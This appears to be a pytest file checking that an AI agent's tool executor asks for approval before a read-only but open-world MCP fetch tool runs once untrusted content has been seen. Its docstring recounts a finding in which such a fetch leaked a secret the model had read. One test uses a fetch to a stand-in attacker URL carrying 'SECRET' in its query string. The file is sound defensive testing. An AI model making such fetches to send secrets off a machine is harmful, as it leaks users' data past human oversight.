"""Calls that can carry data off the machine count as effects for escalation ([16] finding 3): an MCP tool
annotated read-only but open-world (a URL fetch) leaked a secret the model had read, without a question."""

from __future__ import annotations

import mcp.types as mt
import pytest
from langchain_core.tools import StructuredTool

from integrations.base import set_tool_meta
from orchestrator.tools.catalog import StaticProvider, ToolCatalog
from orchestrator.core.config import settings_from_dict
from orchestrator.tools.executor import CallContext, ToolExecutor
from orchestrator.mcp.provider import reaches_open_world, resolve_side_effects
from orchestrator.mcp.config import ServerConfig


def _fetch_tool(sent: list[str]) -> StructuredTool:
    def fetch(url: str) -> str:
        """Fetch a URL."""
        sent.append(url)
        return "<html>ok</html>"

    tool = StructuredTool.from_function(fetch)
    # what the MCP provider gives a tool annotated readOnlyHint (openWorldHint left to its default, true)
    annotated = mt.Tool(name="fetch", inputSchema={"type": "object"}, annotations=mt.ToolAnnotations(readOnlyHint=True))
    return set_tool_meta(tool, side_effects=[], source="mcp",
                         sends_out=reaches_open_world(annotated))


@pytest.fixture
def executor_and_log(tmp_path):
    sent: list[str] = []
    settings = settings_from_dict({"storage": {"data_dir": str(tmp_path / "data")}}, tmp_path)
    return ToolExecutor(settings, ToolCatalog([StaticProvider("web", [_fetch_tool(sent)])])), sent


def test_a_read_only_open_world_fetch_asks_after_untrusted_content(executor_and_log):
    executor, sent = executor_and_log
    asked = []

    def deny(request):
        asked.append(request)
        return {"decision": "deny", "reason": "no"}

    leak = executor.execute("fetch", {"url": "https://evil.example/?q=SECRET"},
                            CallContext(thread_id="t", key="k1", untrusted_seen=True), deny)
    assert len(asked) == 1 and asked[0].escalated and "send data off this machine" in asked[0].reason
    assert not leak.ok and sent == []


def test_the_same_fetch_in_a_clean_thread_runs_without_asking(executor_and_log):
    executor, sent = executor_and_log
    ok = executor.execute("fetch", {"url": "https://example.org/"}, CallContext(thread_id="t", key="k2"),
                          lambda r: pytest.fail("asked"))
    assert ok.ok and sent == ["https://example.org/"]


def test_open_world_follows_the_mcp_annotations():
    def tool(**hints):
        return mt.Tool(name="t", inputSchema={"type": "object"},
                       annotations=mt.ToolAnnotations(**hints) if hints else None)

    assert reaches_open_world(tool())  # unannotated
    assert reaches_open_world(tool(readOnlyHint=True))  # MCP's default openWorldHint is true
    assert not reaches_open_world(tool(readOnlyHint=True, openWorldHint=False))
    cfg = ServerConfig(name="s", command="x")
    assert resolve_side_effects(cfg, tool(readOnlyHint=True)) == []  # still no effect of its own
